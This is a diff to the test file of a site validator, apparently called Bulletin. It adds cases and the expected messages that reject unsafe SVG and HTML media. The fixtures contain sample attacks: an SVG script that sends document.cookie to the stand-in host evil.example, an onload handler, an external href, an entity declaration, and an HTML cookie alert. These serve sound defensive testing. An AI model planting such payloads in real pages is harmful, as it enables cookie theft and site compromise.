@@ -79,6 +79,24 @@ CASES = {
         "---\ntitle: X\nstart: 2026-12-02\nlocation: central\n---\nPay at \u202eelbat eht\u202c.\n"
     ),
     "text_direction_override": ev("cost: \u202e5$\u202c\n"),
+    # media that would run as code on the hub's address
+    "svg_with_a_script": {
+        "media/flyer.svg": '<svg xmlns="http://www.w3.org/2000/svg">\n<rect width="9"/>\n'
+        "<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n</svg>\n"
+    },
+    "svg_with_an_event_handler": {
+        "media/flyer.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n'
+    },
+    "svg_loading_from_another_site": {
+        "media/flyer.svg": '<svg xmlns="http://www.w3.org/2000/svg">\n'
+        '<use href="https://evil.example/sprite.svg#a"/>\n</svg>\n'
+    },
+    "svg_with_entities": {
+        "media/flyer.svg": '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "aaaa">]>\n'
+        '<svg xmlns="http://www.w3.org/2000/svg">&a;</svg>\n'
+    },
+    "svg_not_well_formed": {"media/flyer.svg": '<svg xmlns="http://www.w3.org/2000/svg">\n<g>\n'},
+    "web_page_in_media": {"media/flyer.html": "<script>alert(document.cookie)</script>\n"},
     # keys
     "unknown_key_with_suggestion": ev("strat: 2026-12-02\n"),
     "unknown_key": ev("colour: blue\n"),
@@ -708,6 +726,24 @@ EXPECTED = {
     ],
     "site_toml_vocabulary_key_too_long": [
         "content/site.toml:6: [audiences] key 'kkkkkkkkkkkkkkkkkkkk…' is 300 characters long; a key may have at most 251, because the site makes files named after it: shorten it",
+    ],
+    "svg_with_a_script": [
+        "content/media/flyer.svg:3: the picture contains <script>, which SVG pictures on the hub may not have (it could run code, or load something from another site); save the picture again as plain SVG without it, or as a PNG",
+    ],
+    "svg_with_an_event_handler": [
+        "content/media/flyer.svg:1: the picture's <svg> has the attribute 'onload', which SVG pictures on the hub may not have (it could run code); save the picture again as plain SVG without it, or as a PNG",
+    ],
+    "svg_loading_from_another_site": [
+        'content/media/flyer.svg:2: the picture\'s <use> has href="https://evil.example/sprite.svg#a", which points outside the picture (the hub loads nothing from other sites); save the picture again as plain SVG without it, or as a PNG',
+    ],
+    "svg_with_entities": [
+        "content/media/flyer.svg:2: the picture declares a DOCTYPE or entities, which SVG pictures on the hub may not have (they can make a file expand without end); save the picture again as plain SVG without it, or as a PNG",
+    ],
+    "svg_not_well_formed": [
+        "content/media/flyer.svg:3: the picture is not a readable SVG file (no element found); save it again from the drawing program",
+    ],
+    "web_page_in_media": [
+        "content/media/flyer.html: is a web page or script (.html), which would run on the hub's address; media/ is for pictures and documents: link to the page instead, or save it as a PDF",
     ],
     "folder_not_read": [
         "content/event: warning: is not something Bulletin reads, so it is not published; did you mean 'events'? content/ holds site.toml and the folders events/, partners/, venues/ and media/",
